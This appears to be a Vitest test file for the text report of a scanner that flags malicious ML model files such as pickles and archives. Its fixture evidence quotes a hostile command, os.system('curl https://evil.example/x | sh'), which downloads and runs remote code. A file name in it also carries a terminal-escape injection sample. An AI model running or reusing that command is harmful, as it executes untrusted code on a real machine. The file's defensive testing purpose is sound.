import { describe, expect, it } from 'vitest';
import { printable, renderText } from '../../src/report/text.js';
import { expectGolden } from '../helpers/golden.js';
import { sampleResult } from './fixture.js';

const ANSI = /\u001b\[[0-9;]*m/;

describe('renderText', () => {
  const plain = renderText(sampleResult(), { color: false });
  const lines = plain.split('\n');

  it('matches the golden report, plain and verbose', () => {
    expectGolden('report/golden/report.txt', plain);
    expectGolden('report/golden/report-verbose.txt', renderText(sampleResult(), { color: false, verbose: true }));
  });

  it('has no colour codes and no trailing spaces when colour is off', () => {
    expect(plain).not.toMatch(ANSI);
    expect(lines.filter((line) => line !== line.trimEnd())).toEqual([]);
    expect(plain.endsWith('\n')).toBe(true);
  });

  it('writes a verdict line per file with findings, then its findings', () => {
    expect(lines).toContain('MALICIOUS  bert/bundle.zip  zip  [target models/]');
    // A file target is its own path, so its target is not named again.
    expect(lines).toContain('SUSPICIOUS extra/loader.pkl  pickle');
    expect(lines).toContain('ERROR      broken.npy  npy  [target models/]');
    expect(lines).toContain("  critical pickle/dangerous-callable  unpickling calls os.system('curl … | sh')");
    expect(lines).toContain('      target: bert/bundle.zip!/pytorch_model.bin!/archive/data.pkl');
    expect(lines).toContain("      evidence: os.system('curl https://evil.example/x | sh')");
    expect(lines).toContain('  low      engine/parse-failed [fatal TRUNCATED]  the header ends after 40 of 118 bytes');
  });

  it('names the repo, revision and repo path of a file of the Hugging Face cache', () => {
    const result = sampleResult();
    const file = result.files.find((f) => f.path === 'extra/loader.pkl')!;
    file.hfCache = { repo: 'acme/tiny', type: 'model', commit: 'a'.repeat(40), refs: ['main'], path: 'pytorch_model.bin' };
    expect(renderText(result, { color: false }).split('\n')).toContain('SUSPICIOUS extra/loader.pkl  pickle  [acme/tiny@main: pytorch_model.bin]');
    file.hfCache.refs = [];
    expect(renderText(result, { color: false }).split('\n')).toContain('SUSPICIOUS extra/loader.pkl  pickle  [acme/tiny@aaaaaaaaaaaa: pytorch_model.bin]');
  });

  it('shows the target of a finding only when it is not the file itself', () => {
    expect(lines).not.toContain('      target: extra/loader.pkl');
    expect(lines).toContain('      at: offset 18, opcode #3');
  });

  it('lists findings about a whole target before the files', () => {
    const targets = lines.indexOf('Targets');
    expect(targets).toBe(0);
    expect(lines[1]).toBe('  medium   lock/extra-file  models/ has a file that modelgate.lock does not list: bert/bundle.zip');
    expect(lines[2]).toBe('      target: models/');
  });

  it('counts a clean file without findings unless verbose', () => {
    expect(plain).not.toContain('config.json');
    expect(lines).toContain('  clean         1 (1 not listed; --verbose lists them)');
    const verbose = renderText(sampleResult(), { color: false, verbose: true });
    expect(verbose.split('\n')).toContain('CLEAN      config.json  json  [target models/]');
  });

  it('ends with a summary block', () => {
    const summary = lines.slice(lines.indexOf('Summary'));
    expect(summary).toEqual([
      'Summary',
      '  files         4',
      '  malicious     1',
      '  suspicious    1',
      '  error         1',
      '  clean         1 (1 not listed; --verbose lists them)',
      '  max severity  critical',
      '  duration      41 ms',
      '',
    ]);
  });

  it('colours verdicts and severities when colour is on', () => {
    const coloured = renderText(sampleResult(), { color: true });
    expect(coloured).toMatch(ANSI);
    expect(coloured).toContain('\u001b[31mMALICIOUS');
    expect(coloured).toContain('\u001b[33mSUSPICIOUS');
    expect(coloured).toContain('\u001b[35mERROR');
    expect(coloured.replace(new RegExp(ANSI.source, 'g'), '')).toBe(plain);
  });

  it('escapes control and bidi characters that come from the scanned files', () => {
    expect(printable('a\u001b[2K\rCLEAN\tb\u202ec')).toBe('a\\x1b[2K\\x0dCLEAN\\x09b\\u202ec');
    const result = sampleResult();
    result.files[1]!.path = 'evil\u001b[2K\r.pkl';
    result.files[1]!.findings[0]!.evidence = 'x\u001b]0;title\u0007';
    result.files[1]!.findings[0]!.message = 'line one\nCLEAN fake.pkl';
    const text = renderText(result, { color: false });
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
    expect(text).toContain('SUSPICIOUS evil\\x1b[2K\\x0d.pkl  pickle');
    expect(text).toContain('      evidence: x\\x1b]0;title\\x07');
    expect(text).toContain('line one\\x0aCLEAN fake.pkl');
  });

  it('says none for the max severity of a scan without findings', () => {
    const result = sampleResult();
    result.findings = [];
    result.files = [result.files[3]!];
    result.summary = { files: 1, malicious: 0, suspicious: 0, clean: 1, error: 0, maxSeverity: null, durationMs: 1500 };
    const text = renderText(result, { color: false });
    expect(text).toContain('  max severity  none\n  duration      1.5 s\n');
  });
});
